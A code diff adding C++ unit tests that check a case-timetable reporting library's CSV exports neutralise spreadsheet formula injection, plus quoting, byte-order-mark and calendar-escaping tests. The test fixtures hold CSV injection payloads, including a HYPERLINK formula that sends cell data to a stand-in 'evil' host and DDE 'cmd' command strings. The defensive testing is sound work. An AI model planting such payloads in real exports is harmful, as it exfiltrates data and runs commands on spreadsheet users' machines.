@@ -486,14 +486,133 @@ TEST(report_csv, timetable_csv_has_a_header_and_the_same_number_of_fields_in_eve
   EXPECT_EQ(c[20], "6 months after latest decision_made");
   EXPECT_EQ(c[21], "001:216 001:221 001:393 001:394");
 
-  // A reference with a comma, quotes and a line break is quoted in every record.
-  const std::string awkward = "Child \"Q\", Solihull\r\nsecond line";
+  // A reference with a comma and quotes is quoted in every record (a
+  // reference is one line: line breaks in cells are tested with csv_table).
+  const std::string awkward = "Child \"Q\", Solihull";
   const auto rows = parse_csv(scr::timetable_csv(decided(awkward), as_of));
   ASSERT_GT(rows.size(), 1u);
   for (std::size_t i = 1; i < rows.size(); ++i) {
     ASSERT_EQ(rows[i].size(), header.size()) << "record " << i;
     EXPECT_EQ(rows[i][0], awkward);
   }
+}
+
+// ---- CSV: safe to open in a spreadsheet (OWASP, CSV injection) --------------------
+
+// Every prefix a spreadsheet reads as the start of a formula, and an attack
+// that begins with it.
+const std::vector<std::string> formulas{
+    "=HYPERLINK(\"http://evil/?x=\"&A2,\"Click\")",  // =
+    "+1+cmd|' /C calc'!A0",                          // +
+    "-2+3+cmd|' /C calc'!A0",                        // -
+    "@SUM(1+1)*cmd|' /C calc'!A0",                   // @
+    "\t=1+1",                                        // TAB
+    "\r\n=1+1",                                      // CR
+};
+
+TEST(report_csv, formula_triggers_are_the_six_owasp_prefixes) {
+  for (const auto& f : formulas) {
+    EXPECT_TRUE(scr::csv_formula_trigger(f)) << f;
+    EXPECT_EQ(scr::csv_neutralised(f), "'" + f);
+  }
+  for (const std::string plain : {"", "Child Q", "'=1", " =1", "1-2", "2024-01-16", "Zoë", "\n=1", "x=1"}) {
+    EXPECT_FALSE(scr::csv_formula_trigger(plain)) << plain;
+    EXPECT_EQ(scr::csv_neutralised(plain), plain);
+  }
+}
+
+TEST(report_csv, csv_table_neutralises_each_prefix_then_quotes_as_rfc_4180) {
+  // One cell per prefix: after the ', then quoted when it holds a comma, a
+  // quote or a line break.
+  EXPECT_EQ(scr::csv_table({{"=1+1", "+1", "-1", "@A1", "\tx", "\rx"}}), "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\"\r\n");
+  EXPECT_EQ(scr::csv_table({{formulas[0]}}), "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"Click\"\")\"\r\n");
+  EXPECT_EQ(scr::csv_table({{"=a,b"}}), "\"'=a,b\"\r\n");
+  // Everything else as before.
+  EXPECT_EQ(scr::csv_table({{"Child Q", "1-2", "'quoted", ""}}), "Child Q,1-2,'quoted,\r\n");
+  // Each reads back as the ' and the text.
+  const std::vector<std::vector<std::string>> rows{formulas};
+  const auto back = parse_csv(scr::csv_table(rows));
+  ASSERT_EQ(back.size(), 1u);
+  ASSERT_EQ(back[0].size(), formulas.size());
+  for (std::size_t i = 0; i < formulas.size(); ++i) EXPECT_EQ(back[0][i], "'" + formulas[i]);
+  // raw: every cell as it is.
+  EXPECT_EQ(parse_csv(scr::csv_table(rows, {.raw = true})), rows);
+  EXPECT_EQ(scr::csv_table({{"=1+1", "-1"}}, {.raw = true}), "=1+1,-1\r\n");
+}
+
+TEST(report_csv, excel_puts_a_utf8_byte_order_mark_first) {
+  const std::string bom = "\xEF\xBB\xBF";
+  const std::vector<std::vector<std::string>> rows{{"reference"}, {"Zoë Ünïcødé"}};
+  const std::string plain = scr::csv_table(rows);
+  EXPECT_EQ(plain.rfind(bom, 0), std::string::npos);
+  EXPECT_EQ(scr::csv_table(rows, {.excel = true}), bom + plain);
+  EXPECT_EQ(scr::csv_table({{"=1"}}, {.raw = true, .excel = true}), bom + "=1\r\n");
+  EXPECT_EQ(scr::csv_table({}, {.excel = true}), bom);
+  // Only once, at the very start, in every CSV export.
+  const auto r = extended();
+  const std::string timetable = scr::timetable_csv(r, ymd(2024, 3, 31), {.excel = true});
+  EXPECT_EQ(timetable, bom + scr::timetable_csv(r, ymd(2024, 3, 31)));
+  EXPECT_EQ(timetable.find(bom, 1), std::string::npos);
+  EXPECT_EQ(scr::due_items_csv_with({}, {.excel = true}), bom + scr::due_items_csv({}));
+  EXPECT_EQ(scr::compliance_csv_with({}, {.excel = true}), bom + scr::compliance_csv({}));
+}
+
+TEST(report_csv, timetable_csv_neutralises_a_reference_in_every_record_unless_raw) {
+  const auto as_of = ymd(2024, 3, 31);
+  for (const auto& reference : formulas) {
+    // A reference is one line of visible text: the prefixes it can start with.
+    if (reference[0] == '\t' || reference[0] == '\r') continue;
+    const auto r = decided(reference);
+    const auto safe = parse_csv(scr::timetable_csv(r, as_of));
+    const auto raw = parse_csv(scr::timetable_csv(r, as_of, {.raw = true}));
+    ASSERT_GT(safe.size(), 1u);
+    ASSERT_EQ(safe.size(), raw.size());
+    EXPECT_EQ(safe[0], raw[0]);  // the header
+    for (std::size_t i = 1; i < safe.size(); ++i) {
+      ASSERT_EQ(safe[i].size(), 23u);
+      EXPECT_EQ(safe[i][0], "'" + reference) << "record " << i;
+      EXPECT_EQ(raw[i][0], reference) << "record " << i;
+      // Nothing else changes: the library's own columns, and text that
+      // starts with no trigger.
+      for (std::size_t c = 1; c < safe[i].size(); ++c) EXPECT_EQ(safe[i][c], raw[i][c]) << "record " << i;
+    }
+    EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::csv), scr::timetable_csv(r, as_of));
+  }
+}
+
+TEST(report_csv, lists_neutralise_text_cells_and_write_their_own_numbers_as_they_are) {
+  // Every text column of a due item starts with a trigger; the library's own
+  // columns (kind, occurrence, due, days_overdue) are never prefixed.
+  for (const auto& f : formulas) {
+    const scr::due_item item{f, "milestone", f, f, f, f, 2, ymd(2024, 2, 1), 3};
+    const auto safe = parse_csv(scr::due_items_csv({item}));
+    ASSERT_EQ(safe.size(), 2u);
+    EXPECT_EQ(safe[1], (std::vector<std::string>{"'" + f, "milestone", "'" + f, "'" + f, "2", "'" + f, "'" + f,
+                                                 "2024-02-01", "3"}));
+    EXPECT_EQ(scr::due_items_csv({item}), scr::due_items_csv_with({item}, {}));
+    const auto raw = parse_csv(scr::due_items_csv_with({item}, {.raw = true}));
+    ASSERT_EQ(raw.size(), 2u);
+    EXPECT_EQ(raw[1], (std::vector<std::string>{f, "milestone", f, f, "2", f, f, "2024-02-01", "3"}));
+  }
+  // A negative number the library writes stays a number; the same text in a
+  // reference is neutralised.
+  scr::headline_compliance h;
+  h.reference = "-14";
+  h.headline = "@decision";
+  h.milestone = "+decision_made";
+  h.due = ymd(2024, 2, 15);
+  h.completed_on = ymd(2024, 2, 1);
+  h.on_time = true;
+  h.days_late = -14;
+  const auto rows = parse_csv(scr::compliance_csv({h}));
+  ASSERT_EQ(rows.size(), 2u);
+  EXPECT_EQ(rows[1], (std::vector<std::string>{"'-14", "'@decision", "'+decision_made", "2024-02-15", "", "2024-02-01",
+                                               "true", "false", "false", "-14"}));
+  const auto raw = parse_csv(scr::compliance_csv_with({h}, {.raw = true}));
+  ASSERT_EQ(raw.size(), 2u);
+  EXPECT_EQ(raw[1][0], "-14");
+  EXPECT_EQ(raw[1][1], "@decision");
+  EXPECT_EQ(raw[1][9], "-14");
 }
 
 // ---- aligned text -------------------------------------------------------------------
@@ -746,8 +865,9 @@ TEST(report_ics, one_vevent_per_dated_entry_with_its_dates) {
 }
 
 TEST(report_ics, text_is_escaped) {
-  const std::string reference = "Child Q, Solihull; case\\7\r\nsecond line";
-  const std::string escaped = "Child Q\\, Solihull\\; case\\\\7\\nsecond line";
+  // A reference is one line; line breaks are escaped in the description below.
+  const std::string reference = "Child Q, Solihull; case\\7";
+  const std::string escaped = "Child Q\\, Solihull\\; case\\\\7";
   const auto r = decided(reference);
   const auto as_of = ymd(2024, 3, 1);
   const std::string ics = scr::timetable_ics(r, as_of);
